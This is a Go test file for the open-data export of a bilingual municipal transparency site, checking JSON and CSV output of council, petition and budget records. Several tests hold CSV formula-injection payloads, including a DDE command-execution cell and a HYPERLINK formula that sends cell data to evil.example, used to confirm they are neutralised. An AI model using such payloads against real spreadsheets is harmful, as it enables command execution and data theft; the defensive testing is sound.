package opendata

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/tadafor/tadafor/internal/site"
)

var update = flag.Bool("update", false, "rewrite the golden files of testdata")

var langs = []string{"ar", "fr"}

func day(y int, m time.Month, d int) site.Date {
	return site.Date{Time: time.Date(y, m, d, 0, 0, 0, 0, time.UTC)}
}

func yes() *bool { b := true; return &b }

// records is one of each record, with hostile text where it can go.
func records() *site.Records {
	return &site.Records{
		Council: &site.Council{
			Mandate:   "2021-2027",
			President: site.Member{Name: site.Text{"ar": "فاطمة الزهراء", "fr": "Fatima Zahra"}, Gender: site.Woman, Role: site.Text{"ar": "الرئيسة", "fr": "Présidente"}, Party: "Liste A"},
			Bureau:    []site.Member{{Name: site.Text{"ar": "أحمد", "fr": "Ahmed"}, Gender: site.Man, Role: site.Text{"ar": "النائب الأول", "fr": "Premier vice-président"}}},
			Members:   []site.Member{{Name: site.Text{"ar": "سعاد", "fr": "Souad"}, Gender: site.Woman}},
			Committees: []site.Committee{{
				Name:    site.Text{"ar": "لجنة الميزانية والشؤون المالية", "fr": "Commission du budget, des finances"},
				Members: []site.Text{{"ar": "أحمد", "fr": "Ahmed"}, {"ar": "سعاد", "fr": "Souad"}},
			}},
		},
		Sessions: []site.Session{{
			ID: "2026-02", Kind: site.Ordinary, Date: day(2026, 2, 2), End: day(2026, 2, 3),
			Place:  site.Text{"ar": "قاعة الاجتماعات", "fr": "Salle des délibérations"},
			Agenda: []site.Text{{"ar": "العرائض", "fr": "Pétitions"}, {"ar": "الميزانية", "fr": "Budget, \"rectificatif\""}},
		}},
		Petitions: []site.Petition{{
			Ref:   "P-2026-001",
			Title: site.Text{"ar": "تهيئة حديقة الحي، وإنارة الأزقة", "fr": "Aménager le jardin, éclairer les ruelles"},
			Filer: site.Association, FilerName: site.Text{"ar": "جمعية \"الأمل\"", "fr": "Association « Al Amal »"},
			Filed: day(2026, 1, 10), Signatures: 120, Channel: "paper",
			History: []site.StatusChange{
				{Status: site.Filed, Date: day(2026, 1, 10)},
				{Status: site.Accepted, Date: day(2026, 1, 25), Note: site.Text{"fr": "Recevable"}},
			},
			Reason:  site.Text{"fr": "ligne 1\nligne 2"},
			Session: "2026-02",
		}},
		Budgets: []site.BudgetCycle{{
			ID: "2026", Title: site.Text{"ar": "الميزانية التشاركية 2026", "fr": "Budget participatif 2026"}, Amount: 500000,
			Phases: []site.Phase{{Name: "proposing", Start: day(2026, 1, 1), End: day(2026, 2, 1)}},
			Projects: []site.Project{{
				ID: "eclairage", Title: site.Text{"ar": "إنارة", "fr": "Éclairage"}, Cost: 80000, Feasible: yes(), Votes: 312, Selected: true,
				Milestones: []site.Milestone{
					{Date: day(2026, 4, 1), Title: site.Text{"ar": "الصفقة", "fr": "Marché"}, Progress: 10},
					{Date: day(2026, 6, 1), Title: site.Text{"ar": "الأشغال", "fr": "Travaux"}, Progress: 60},
				},
			}, {ID: "jardin", Title: site.Text{"ar": "حديقة", "fr": "Jardin"}, Cost: 120000}},
		}},
		Bodies: []site.Body{{
			ID: "ieecag", Kind: "ieecag", Name: site.Text{"ar": "هيئة المساواة", "fr": "IEECAG"}, Created: day(2022, 3, 1),
			Members:  []site.Member{{Name: site.Text{"ar": "نادية", "fr": "Nadia"}, Gender: site.Woman}},
			Opinions: []site.Opinion{{Date: day(2025, 11, 3), Subject: site.Text{"ar": "الإنارة", "fr": "Éclairage"}, Responded: site.Date{Time: time.Date(2026, 1, 5, 18, 30, 0, 0, time.UTC)}}},
		}},
		CoCreations: []site.CoCreation{{
			ID: "bibliotheque", Title: site.Text{"ar": "مكتبة", "fr": "Bibliothèque"},
			Partners: []site.Text{{"ar": "جمعية أ", "fr": "Association A"}, {"ar": "جمعية ب", "fr": "Association B"}},
			Amount:   30000, Status: "ongoing", Start: day(2025, 9, 1),
		}},
		Documents: []site.Document{{
			Title: site.Text{"ar": "برنامج عمل الجماعة", "fr": "Programme d'action"}, Category: "action-programme",
			File: "docs/pac.pdf", Date: day(2023, 6, 30), Size: 1048576, Format: "PDF",
		}},
	}
}

// TestJSONGolden compares the JSON of the records with
// testdata/records.json; run `go test ./internal/opendata -update`.
func TestJSONGolden(t *testing.T) {
	t.Parallel()
	r := records()
	got, err := JSON(map[string]any{
		"council": r.Council, "sessions": r.Sessions, "petitions": r.Petitions, "cycles": r.Budgets,
		"bodies": r.Bodies, "projects": r.CoCreations, "documents": r.Documents,
	})
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "records.json", got)
	if !json.Valid(got) {
		t.Fatal("invalid JSON")
	}
}

// TestCSVGolden compares the petitions table with testdata/petitions.csv.
func TestCSVGolden(t *testing.T) {
	t.Parallel()
	golden(t, "petitions.csv", CSV(Petitions(records().Petitions, langs)))
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s:\n got:\n%s\nwant:\n%s", file, got, want)
	}
}

// TestJSONKeepsArabicAndMarkup checks that text is written as it is,
// without \u escapes, and reads back the same through encoding/json.
func TestJSONKeepsArabicAndMarkup(t *testing.T) {
	t.Parallel()
	tests := []string{
		"عريضة بشأن تهيئة الحي",
		"ⵜⴰⵎⴰⵣⵉⵖⵜ",
		`<a href="x">&amp;</a>`,
		"quote \" backslash \\ tab \t line\nbreak \r bell \x07",
		"separators \u2028 \u2029",
		"emoji 📅",
	}
	for _, s := range tests {
		out, err := JSON(s)
		if err != nil {
			t.Fatal(err)
		}
		var back string
		if err := json.Unmarshal(out, &back); err != nil {
			t.Fatalf("%q: %v", out, err)
		}
		if back != s {
			t.Errorf("round trip of %q gave %q", s, back)
		}
		if bytes.Contains(out, []byte(`\u0`)) && !strings.ContainsAny(s, "\x07") {
			t.Errorf("%q escaped: %s", s, out)
		}
		for _, r := range s {
			if r > 0x7f && r != '\u2028' && r != '\u2029' && !bytes.ContainsRune(out, r) {
				t.Errorf("%q: %q not written as is in %s", s, r, out)
			}
		}
	}
	out, _ := JSON("<&>")
	if string(out) != "\"<&>\"\n" {
		t.Errorf("markup escaped: %s", out)
	}
	out, _ = JSON("a\xffb")
	if string(out) != "\"a\\ufffdb\"\n" {
		t.Errorf("invalid UTF-8: %s", out)
	}
}

// TestJSONRoundTrip decodes the records' JSON with encoding/json and
// compares a few values, Arabic included.
func TestJSONRoundTrip(t *testing.T) {
	t.Parallel()
	out, err := JSON(records().Petitions)
	if err != nil {
		t.Fatal(err)
	}
	var back []map[string]any
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatal(err)
	}
	p := back[0]
	if p["title"].(map[string]any)["ar"] != "تهيئة حديقة الحي، وإنارة الأزقة" {
		t.Errorf("title = %v", p["title"])
	}
	if p["filed"] != "2026-01-10" || p["signatures"] != 120.0 || p["decision"] == nil {
		t.Errorf("filed %v, signatures %v, decision %v", p["filed"], p["signatures"], p["decision"])
	}
	hist := p["history"].([]any)
	if hist[1].(map[string]any)["status"] != "accepted" {
		t.Errorf("history = %v", hist)
	}
}

// TestJSONKeys checks key names and order, and the values of every kind.
func TestJSONKeys(t *testing.T) {
	t.Parallel()
	type inner struct {
		A int `yaml:"a"`
	}
	type embedded struct {
		E string `yaml:"e"`
	}
	type v struct {
		embedded
		Zeta     string            `yaml:"zeta"`
		Alpha    string            `yaml:"alpha,omitempty"`
		Skip     string            `yaml:"-"`
		Derived  int64             `yaml:"-" json:"derived"`
		Renamed  string            `yaml:"yamlname" json:"jsonname"`
		Gone     string            `json:"-"`
		Omit     string            `json:"omit,omitempty"`
		Untagged bool              //
		List     []int             `yaml:"list"`
		Map      map[string]int    `yaml:"map"`
		IntKeys  map[int]string    `yaml:"int_keys"`
		Ptr      *inner            `yaml:"ptr"`
		Full     *inner            `yaml:"full"`
		Any      any               `yaml:"any"`
		Date     site.Date         `yaml:"date"`
		Clock    site.Date         `yaml:"clock"`
		NoDate   site.Date         `yaml:"no_date"`
		DatePtr  *site.Date        `yaml:"date_ptr"`
		Time     time.Time         `yaml:"time"`
		Float    float64           `yaml:"float"`
		Text     site.Text         `yaml:"text"`
		Nested   map[string][]bool `yaml:"nested"`
		private  int
	}
	d := day(2026, 3, 1)
	got, err := JSON(v{
		embedded: embedded{E: "e"}, Zeta: "z", Skip: "s", Derived: 42, Renamed: "r", Gone: "g", Untagged: true,
		Map: map[string]int{"b": 2, "a": 1}, IntKeys: map[int]string{10: "x", 2: "y"},
		Full: &inner{A: 1}, Date: d, Clock: site.Date{Time: time.Date(2026, 3, 1, 18, 30, 0, 0, time.UTC)},
		DatePtr: &d, Time: time.Date(2026, 3, 1, 9, 0, 0, 0, time.FixedZone("", 3600)), Float: 1.5,
		Text: site.Text{"fr": "b", "ar": "أ"}, Nested: map[string][]bool{"k": {true}}, private: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	want := `{
  "e": "e",
  "zeta": "z",
  "alpha": "",
  "derived": 42,
  "jsonname": "r",
  "Untagged": true,
  "list": [],
  "map": {
    "a": 1,
    "b": 2
  },
  "int_keys": {
    "10": "x",
    "2": "y"
  },
  "ptr": null,
  "full": {
    "a": 1
  },
  "any": null,
  "date": "2026-03-01",
  "clock": "2026-03-01T18:30",
  "no_date": null,
  "date_ptr": "2026-03-01",
  "time": "2026-03-01T09:00:00+01:00",
  "float": 1.5,
  "text": {
    "ar": "أ",
    "fr": "b"
  },
  "nested": {
    "k": [
      true
    ]
  }
}
`
	if string(got) != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestJSONErrors(t *testing.T) {
	t.Parallel()
	type cyclic struct {
		Next *cyclic `yaml:"next"`
	}
	loop := &cyclic{}
	loop.Next = loop
	tests := []struct {
		name string
		v    any
		want string
	}{
		{"channel", map[string]any{"c": make(chan int)}, "opendata: json: c: unsupported type chan int"},
		{"function", []any{func() {}}, "opendata: json: [0]: unsupported type func()"},
		{"NaN", map[string]float64{"x": math.NaN()}, "opendata: json: x: json: unsupported value: NaN"},
		{"struct key", map[struct{}]int{{}: 1}, "opendata: json: unsupported map key type struct {}"},
		{"cycle", loop, "opendata: json: next: next: "},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			out, err := JSON(tt.v)
			if err == nil || !strings.HasPrefix(err.Error(), tt.want) || out != nil {
				t.Errorf("JSON = %q, %v; want error %q", out, err, tt.want)
			}
		})
	}
}

// TestCSVQuoting checks RFC 4180 quoting byte for byte.
func TestCSVQuoting(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		row  []string
		want string
	}{
		{"plain", []string{"a", "b"}, "a,b\r\n"},
		{"comma", []string{"a,b", "c"}, "\"a,b\",c\r\n"},
		{"quote", []string{`say "hi"`}, "\"say \"\"hi\"\"\"\r\n"},
		{"line break", []string{"one\ntwo"}, "\"one\r\ntwo\"\r\n"},
		{"leading space", []string{" x"}, "\" x\"\r\n"},
		{"arabic comma is not a separator", []string{"أ، ب"}, "أ، ب\r\n"},
		{"empty fields", []string{"", ""}, ",\r\n"},
		{"single empty field", []string{""}, "\"\"\r\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := string(CSV([]string{"h"}, [][]string{tt.row}))
			want := BOM + "h\r\n" + tt.want
			if got != want {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}

// TestCSVRoundTrip reads every table back with encoding/csv.
func TestCSVRoundTrip(t *testing.T) {
	t.Parallel()
	for _, tb := range Tables(records(), langs) {
		t.Run(tb.Name, func(t *testing.T) {
			t.Parallel()
			out := CSV(tb.Head, tb.Rows)
			if !bytes.HasPrefix(out, []byte(BOM)) {
				t.Fatal("no byte-order mark")
			}
			got := readCSV(t, out)
			want := append([][]string{tb.Head}, tb.Rows...)
			if !reflect.DeepEqual(got, want) {
				t.Errorf("read back\n%q\nwant\n%q", got, want)
			}
		})
	}
	hostile := [][]string{{"عريضة، \"الحي\"\nسطر ثان", " x", "a,b", "", "\"", "=1+1"}}
	want := [][]string{{"عريضة، \"الحي\"\nسطر ثان", " x", "a,b", "", "\"", "'=1+1"}}
	if got := readCSV(t, CSV([]string{"a", "b", "c", "d", "e", "f"}, hostile)); !reflect.DeepEqual(got[1:], want) {
		t.Errorf("read back %q, want %q", got[1:], want)
	}
}

// TestCSVNeutralizesFormulas checks that no text of a record reaches a
// spreadsheet program as a formula, while the JSON keeps it as written.
func TestCSVNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	tests := []struct{ cell, want string }{
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{`=HYPERLINK("https://evil.example/?"&A1,"ici")`, `'=HYPERLINK("https://evil.example/?"&A1,"ici")`},
		{"+212 5 36 61 23 45", "'+212 5 36 61 23 45"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r'=1+1"},
		{"Budget\n=1+1", "Budget\n'=1+1"},
		{"Budget\r\n@SUM(A1)", "Budget\r\n'@SUM(A1)"},
		{"Budget;=1+1", "Budget;'=1+1"},
		{"=a;=b\n-c", "'=a;'=b\n'-c"},
		{"-1200", "-1200"},
		{"+5", "+5"},
		{"12.5", "12.5"},
		{"-12.5.1", "'-12.5.1"},
		{"Pétitions – 2026", "Pétitions – 2026"},
		{"e-mail = courriel", "e-mail = courriel"},
		{"Budget; rectificatif", "Budget; rectificatif"},
		{"", ""},
		{"'=déjà", "'=déjà"},
	}
	for _, tt := range tests {
		if got := Neutral(tt.cell); got != tt.want {
			t.Errorf("Neutral(%q) = %q, want %q", tt.cell, got, tt.want)
		}
	}

	r := records()
	r.Petitions[0].Title["fr"] = "=cmd|' /C calc'!A0"
	r.Sessions[0].Agenda[1]["fr"] = `=HYPERLINK("https://evil.example/","ici")`
	for _, tb := range Tables(r, langs) {
		switch tb.Name {
		case "petitions", "sessions":
			got := readCSV(t, CSV(tb.Head, tb.Rows))
			for _, row := range got[1:] {
				for _, c := range row {
					if strings.HasPrefix(c, "=") || strings.Contains(c, "\n=") {
						t.Errorf("%s.csv: formula %q", tb.Name, c)
					}
				}
			}
		}
	}
	out, err := JSON(r.Petitions)
	if err != nil || !bytes.Contains(out, []byte(`"fr": "=cmd|' /C calc'!A0"`)) {
		t.Errorf("the JSON does not keep the title as written:\n%s", out)
	}
}

// formula reports whether a spreadsheet program could read a part of a
// cell read back from a CSV file as a formula.
func formula(cell string) bool {
	if number.MatchString(cell) {
		return false
	}
	for _, line := range strings.FieldsFunc(cell, func(r rune) bool { return r == '\n' || r == '\r' || r == ';' }) {
		if strings.IndexByte(formulaStart, line[0]) >= 0 {
			return true
		}
	}
	return cell != "" && strings.IndexByte(formulaStart, cell[0]) >= 0
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte(BOM))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// TestColumns checks the exact columns of every table, their order with
// the languages given, and that every row has one cell per column.
func TestColumns(t *testing.T) {
	t.Parallel()
	want := map[string]string{
		"council-members":    "mandate position name_ar name_fr gender role_ar role_fr party",
		"council-committees": "name_ar name_fr chair_ar chair_fr members_ar members_fr remit_ar remit_fr",
		"sessions":           "id kind date end held place_ar place_fr agenda_ar agenda_fr decisions_ar decisions_fr minutes minutes_size minutes_format",
		"petitions":          "ref title_ar title_fr filer filer_name_ar filer_name_fr filed signatures channel status status_date history decision_ar decision_fr reason_ar reason_fr session",
		"budget-projects":    "cycle cycle_title_ar cycle_title_fr cycle_amount id title_ar title_fr area_ar area_fr cost feasible reason_ar reason_fr votes selected proposer_ar proposer_fr status progress milestones_ar milestones_fr",
		"body-members":       "body body_kind body_name_ar body_name_fr name_ar name_fr gender role_ar role_fr party",
		"body-opinions":      "body body_kind body_name_ar body_name_fr date subject_ar subject_fr summary_ar summary_fr response_ar response_fr responded",
		"cocreation":         "id title_ar title_fr partners_ar partners_fr amount status start end summary_ar summary_fr",
		"documents":          "title_ar title_fr category file date size format",
	}
	full, empty := Tables(records(), langs), Tables(nil, langs)
	if len(full) != len(want) || len(empty) != len(want) {
		t.Fatalf("%d and %d tables, want %d", len(full), len(empty), len(want))
	}
	for i, tb := range full {
		if got := strings.Join(tb.Head, " "); got != want[tb.Name] {
			t.Errorf("%s columns:\n got %s\nwant %s", tb.Name, got, want[tb.Name])
		}
		if !reflect.DeepEqual(empty[i].Head, tb.Head) || empty[i].Name != tb.Name || len(empty[i].Rows) != 0 {
			t.Errorf("%s: the empty table differs: %q %q", tb.Name, empty[i].Name, empty[i].Head)
		}
		if len(tb.Rows) == 0 {
			t.Errorf("%s: no rows from the fixture", tb.Name)
		}
		for j, r := range tb.Rows {
			if len(r) != len(tb.Head) {
				t.Errorf("%s row %d has %d cells for %d columns", tb.Name, j, len(r), len(tb.Head))
			}
		}
	}
	head, _ := Petitions(nil, []string{"fr", "ar", "zgh"})
	if got := strings.Join(head[:4], " "); got != "ref title_fr title_ar title_zgh" {
		t.Errorf("languages not in the order given: %s", got)
	}
}

// TestRows checks the flattened values of the fixture.
func TestRows(t *testing.T) {
	t.Parallel()
	r := records()
	cell := func(head []string, row []string, col string) string {
		for i, h := range head {
			if h == col {
				return row[i]
			}
		}
		t.Fatalf("no column %s", col)
		return ""
	}
	tests := []struct {
		name      string
		head      []string
		rows      [][]string
		row       int
		col, want string
	}{
		{"petition status", head(Petitions(r.Petitions, langs)), rows(Petitions(r.Petitions, langs)), 0, "status", "accepted"},
		{"petition status date", head(Petitions(r.Petitions, langs)), rows(Petitions(r.Petitions, langs)), 0, "status_date", "2026-01-25"},
		{"petition history", head(Petitions(r.Petitions, langs)), rows(Petitions(r.Petitions, langs)), 0, "history", "2026-01-10 filed\n2026-01-25 accepted"},
		{"petition missing language", head(Petitions(r.Petitions, langs)), rows(Petitions(r.Petitions, langs)), 0, "reason_ar", ""},
		{"agenda", head(Sessions(r.Sessions, langs)), rows(Sessions(r.Sessions, langs)), 0, "agenda_fr", "Pétitions\nBudget, \"rectificatif\""},
		{"session end", head(Sessions(r.Sessions, langs)), rows(Sessions(r.Sessions, langs)), 0, "end", "2026-02-03"},
		{"project cycle", head(Projects(r.Budgets, langs)), rows(Projects(r.Budgets, langs)), 1, "cycle_title_ar", "الميزانية التشاركية 2026"},
		{"feasible", head(Projects(r.Budgets, langs)), rows(Projects(r.Budgets, langs)), 0, "feasible", "true"},
		{"not yet reviewed", head(Projects(r.Budgets, langs)), rows(Projects(r.Budgets, langs)), 1, "feasible", ""},
		{"progress", head(Projects(r.Budgets, langs)), rows(Projects(r.Budgets, langs)), 0, "progress", "60"},
		{"project status", head(Projects(r.Budgets, langs)), rows(Projects(r.Budgets, langs)), 0, "status", "in-progress"},
		{"proposed project", head(Projects(r.Budgets, langs)), rows(Projects(r.Budgets, langs)), 1, "status", "proposed"},
		{"session not held", head(Sessions(r.Sessions, langs)), rows(Sessions(r.Sessions, langs)), 0, "held", "false"},
		{"minutes size", head(Sessions(r.Sessions, langs)), rows(Sessions(r.Sessions, langs)), 0, "minutes_size", ""},
		{"no milestone", head(Projects(r.Budgets, langs)), rows(Projects(r.Budgets, langs)), 1, "progress", ""},
		{"milestones", head(Projects(r.Budgets, langs)), rows(Projects(r.Budgets, langs)), 0, "milestones_ar", "2026-04-01 10% الصفقة\n2026-06-01 60% الأشغال"},
		{"president first", head(CouncilMembers(r.Council, langs)), rows(CouncilMembers(r.Council, langs)), 0, "position", "president"},
		{"bureau", head(CouncilMembers(r.Council, langs)), rows(CouncilMembers(r.Council, langs)), 1, "role_fr", "Premier vice-président"},
		{"member gender", head(CouncilMembers(r.Council, langs)), rows(CouncilMembers(r.Council, langs)), 2, "gender", "woman"},
		{"committee members", head(Committees(r.Council, langs)), rows(Committees(r.Council, langs)), 0, "members_ar", "أحمد\nسعاد"},
		{"body member", head(BodyMembers(r.Bodies, langs)), rows(BodyMembers(r.Bodies, langs)), 0, "body_name_fr", "IEECAG"},
		{"opinion answered with a time", head(Opinions(r.Bodies, langs)), rows(Opinions(r.Bodies, langs)), 0, "responded", "2026-01-05T18:30"},
		{"partners", head(CoCreations(r.CoCreations, langs)), rows(CoCreations(r.CoCreations, langs)), 0, "partners_fr", "Association A\nAssociation B"},
		{"no end", head(CoCreations(r.CoCreations, langs)), rows(CoCreations(r.CoCreations, langs)), 0, "end", ""},
		{"size", head(Documents(r.Documents, langs)), rows(Documents(r.Documents, langs)), 0, "size", "1048576"},
	}
	for _, tt := range tests {
		if got := cell(tt.head, tt.rows[tt.row], tt.col); got != tt.want {
			t.Errorf("%s: %s = %q, want %q", tt.name, tt.col, got, tt.want)
		}
	}
}

func head(h []string, _ [][]string) []string   { return h }
func rows(_ []string, r [][]string) [][]string { return r }

// FuzzText checks that any text gives valid JSON and CSV that read back
// as the text (invalid UTF-8 aside, which JSON replaces).
func FuzzText(f *testing.F) {
	f.Add("عريضة، \"الحي\"\nسطر", " x")
	f.Add("\xff\u2028<&>", "")
	f.Add("=cmd|' /C calc'!A0", "-1200")
	f.Add("a;@x\n+y", "\t-")
	f.Fuzz(func(t *testing.T, a, b string) {
		out, err := JSON([]string{a, b})
		if err != nil || !json.Valid(out) {
			t.Fatalf("JSON(%q, %q) = %s, %v", a, b, out, err)
		}
		var back []string
		if err := json.Unmarshal(out, &back); err != nil {
			t.Fatal(err)
		}
		if utf8.ValidString(a) && back[0] != a {
			t.Errorf("JSON round trip of %q gave %q", a, back[0])
		}
		if strings.ContainsRune(a+b, '\r') {
			return // CSV normalises line breaks to \n
		}
		got := readCSV(t, CSV([]string{"a", "b"}, [][]string{{a, b}}))
		if want := []string{Neutral(a), Neutral(b)}; !reflect.DeepEqual(got[1], want) {
			t.Errorf("CSV round trip of %q gave %q, want %q", []string{a, b}, got[1], want)
		}
		for _, c := range got[1] {
			if formula(c) {
				t.Errorf("CSV of %q holds the formula %q", []string{a, b}, c)
			}
		}
		if n := Neutral(a); n != a && n != "'"+a && !strings.ContainsAny(a, "\r\n;") {
			t.Errorf("Neutral(%q) = %q changes more than its start", a, Neutral(a))
		}
	})
}
